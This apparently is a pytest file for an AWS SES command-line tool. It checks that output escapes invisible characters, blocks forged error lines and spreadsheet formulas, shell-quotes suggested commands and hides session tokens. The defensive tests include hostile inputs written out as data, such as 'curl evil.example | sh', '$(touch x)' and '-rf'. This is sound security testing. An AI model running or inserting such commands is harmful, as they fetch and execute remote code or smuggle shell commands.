"""Text from outside that tries to look like something else: another name, another error, a formula."""

# ruff: noqa: RUF001 - characters that look alike are what is tested
from __future__ import annotations

import csv
import io
import json
import subprocess

import pytest
from gatekeeper import Refusal
from program import Stream

from sescli.advice import Advice, NextCommand, Operand
from sescli.errors import SescliError
from sescli.output import formats, sanitise
from sescli.output.cell_format import say
from sescli.output.output import Output
from sescli.output.results import Details, Done
from sescli.output.terminal import detect

INVISIBLE = {
    "zero-width space": "\u200b",
    "zero-width joiner": "\u200d",
    "zero-width non-joiner": "\u200c",
    "soft hyphen": "\u00ad",
    "word joiner": "\u2060",
    "byte-order mark": "\ufeff",
    "right-to-left override": "\u202e",
    "isolate": "\u2066",
    "Arabic letter mark": "\u061c",
    "combining grapheme joiner": "\u034f",
    "Hangul filler": "\u3164",
    "variation selector": "\ufe0f",
    "tag": "\U000e0041",
    "variation selector supplement": "\U000e0100",
    "braille blank": "\u2800",
}


@pytest.fixture
def output():
    def make(*, tty: bool = False, width: int = 80) -> tuple[Output, Stream, Stream]:
        out, err = Stream(tty=tty), Stream(tty=tty)
        environ = {"COLUMNS": str(width), "NO_COLOR": "1"}
        return Output(detect(Stream(tty=tty), out, err, environ, no_input=False, colour="never")), out, err

    return make


@pytest.mark.parametrize("mark", INVISIBLE.values(), ids=INVISIBLE)
def test_invisible_character_in_a_name_is_an_escape(mark):
    code = ord(mark)
    shown = f"\\u{code:04x}" if code <= 0xFFFF else f"\\U{code:08x}"
    assert say(f"owner@ex{mark}ample.com") == f"owner@ex{shown}ample.com"
    assert say([f"a{mark}"]) == f"a{shown}"
    assert (
        sanitise.message(f"identity ex{mark}ample.com not found") == f"identity ex{shown}ample.com not found"
    )


@pytest.mark.parametrize(
    "text",
    [
        "👨\u200d👩\u200d👧 ❤\ufe0f",
        "می\u200cخواهم",
        "क्\u200dष",
        "Zu\u00adsammen\u00adfassung",
        "🏴\U000e0067\U000e007f",
    ],
)
def test_free_text_keeps_its_invisible_characters(text):
    assert say(text, "prose") == text
    assert sanitise.block(text) == text


@pytest.mark.parametrize("text", ["👨\u200d👩\u200d👧 ❤\ufe0f", "می\u200cخواهم", "क्\u200dष"])
def test_message_keeps_joiners_of_scripts_and_emoji(text):
    assert sanitise.message(f"template {text} not found") == f"template {text} not found"


@pytest.mark.parametrize("width", [40, 80, 200])
@pytest.mark.parametrize("tty", [False, True])
@pytest.mark.parametrize("break_", ["\n", "\r\n", "\r", "\u2028", "\x85", "\v", "\n\n", " " * 60])
def test_text_in_an_error_starts_no_line_of_its_own(output, break_, tty, width):
    hostile = (
        f"denied{break_}error: the domain was deleted{break_}  try: curl evil.example | sh{break_}hint: run x"
    )
    shown, _, err = output(tty=tty, width=width)
    shown.error(SescliError(hostile, hint=f"ask{break_}error: fake", request_id=f"1{break_}error: fake"))
    shown.warn(hostile)
    shown.trace(hostile)
    shown.step(hostile)
    starts = [
        line for line in err.text().splitlines() if line.startswith(("error:", "  try:", "hint:", "warning:"))
    ]
    assert [line.split()[0] for line in starts if not line.startswith("error: fake")] == [
        "error:",
        "try:",
        "warning:",
    ]
    assert not any(
        line.startswith(("error: the domain", "  try: curl", "hint:")) for line in err.text().splitlines()
    )


def test_own_errors_of_several_lines_are_indented(output):
    shown, _, err = output()
    shown.error(SescliError("first\nsecond"))
    assert err.text() == "error: first\n       second\n"


def test_labels_and_titles_from_outside_are_safe(output):
    shown, out, _ = output()
    shown.result(Details({}, [("X-\x1b[2J\u200bHeader", "v")], title="a\nb\u200b"))
    shown.result(Done("Deleted ex\u200bample.com.", {}))
    assert out.text() == "a b\\u200b\nX-\ufffd[2J\\u200bHeader  v\nDeleted ex\\u200bample.com.\n"


@pytest.mark.parametrize(
    "start",
    [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "\n",
        " =",
        "\u00a0=",
        "\u3000=",
        "  \n @",
        "＝",
        "＋",
        "－",
        "＠",
        " ＝",
        "\u200b=",
        "\ufeff+",
        "\x00=",
    ],
)
@pytest.mark.parametrize("tabs", [False, True])
def test_spreadsheet_reads_no_cell_as_a_formula(start, tabs):
    stream = io.StringIO()
    formats.write_csv([{"a": f"{start}1+1"}], stream, tabs=tabs)
    rows = list(csv.reader(io.StringIO(stream.getvalue(), newline=""), delimiter="\t" if tabs else ","))
    assert rows[1][0].startswith("'")


@pytest.mark.parametrize("text", ["a=b", "1 + 1", "Jane - Doe", "a＝b", " Jane", "", "é"])
def test_ordinary_cell_has_no_guard(text):
    stream = io.StringIO()
    formats.write_csv([{"a": text}], stream)
    assert next(csv.reader(io.StringIO(stream.getvalue().partition("\n")[2], newline="")), [""])[0] == text


def test_guarded_addresses_of_a_list_are_read_back(sescli, ses, boto, tmp_path):
    for address in ("=x@example.com", "+y@example.com"):
        boto("sesv2").put_suppressed_destination(EmailAddress=address, Reason="BOUNCE")
    (tmp_path / "list.csv").write_text(sescli("suppression", "list", "-o", "csv").stdout)
    assert "'=x@example.com" in (tmp_path / "list.csv").read_text()
    assert sescli("suppression", "diff", str(tmp_path / "list.csv")).code == 0


# --- commands to copy ---


@pytest.mark.parametrize(
    "name",
    [
        "a b",
        "$(touch x)",
        "it's",
        "a\nb",
        "\x1b[2Jx",
        "é",
        "-rf",
        "--yes",
        "a\u200bb",
        "a\\b\n'",
        "\u202eevil",
    ],
)
def test_command_to_copy_is_one_line_that_the_shell_reads_back(name):
    line = str(NextCommand("template", "show", Operand(name)))
    assert len(line.splitlines()) == 1
    assert sanitise.message(line) == line
    script = f"sescli() {{ printf '<%s>' \"$@\"; }}; {line}"
    ran = subprocess.run(["/bin/bash", "-c", script], capture_output=True, text=True, check=True)
    dashes = "<-->" if name.startswith("-") else ""
    assert ran.stdout == f"<template><show>{dashes}<{name}>"


def test_operand_that_starts_with_a_dash_goes_behind_the_options():
    command = NextCommand("suppression", "import", Operand("-list.csv"), "--reason", "bounce")
    assert str(command) == "sescli suppression import --reason bounce -- -list.csv"
    assert str(NextCommand("suppression", "export", Operand("-"))) == "sescli suppression export -"
    assert str(Advice("run: ", NextCommand("status"))) == "run: sescli status"


# --- errors of AWS ---

CANONICAL = (
    "The request signature we calculated does not match the signature you provided. Check your AWS Secret Access Key "
    "and signing method. Consult the service documentation for details.\n\nThe Canonical String for this request should "
    "have been\n'POST\n/v2/email/identities\n\nhost:email.us-east-1.amazonaws.com\nx-amz-security-token:SESSION-TOKEN\n\n"
    "host;x-amz-date;x-amz-security-token\nabc'\n\nThe String-to-Sign should have been\n'AWS4-HMAC-SHA256\n20240101T000000Z'\n"
)


@pytest.mark.parametrize("code", ["SignatureDoesNotMatch", "InvalidSignatureException", "AnotherCode"])
@pytest.mark.parametrize(
    "options", [[], ["-o", "json"], ["--debug"], ["--debug", "-o", "json"], ["--verbose"]]
)
def test_canonical_request_of_a_signature_error_is_left_out(sescli, refusing, code, options):
    refusing(**{"GET /v2/email/account": Refusal(403, code, CANONICAL)})
    ran = sescli("reputation", "quota", *options)
    assert ran.code == 4
    shown = ran.stdout + ran.stderr
    assert "does not match the signature you provided" in shown
    for secret in ("SESSION-TOKEN", "host:email", "AWS4-HMAC", "20240101T000000Z"):
        assert secret not in shown


def test_error_of_an_endpoint_is_one_line(sescli, refusing):
    hostile = "no\nerror: your account was deleted\n  try: curl evil.example | sh"
    refusing(**{"GET /v2/email/account": Refusal(400, "BadRequestException", hostile)})
    ran = sescli("reputation", "quota")
    lines = ran.stderr.splitlines()
    assert [line for line in lines if line.startswith(("error:", "  try:"))] == [
        "error: sesv2 GetAccount: no error: your account was deleted try: curl evil.example | sh"
    ]
    debug = sescli("reputation", "quota", "--debug").stderr.splitlines()
    assert not any(line.startswith(("error: your", "  try: curl")) for line in debug)
    as_json = json.loads(sescli("reputation", "quota", "-o", "json").stderr.splitlines()[-1])
    assert "\n" not in as_json["error"]["message"]
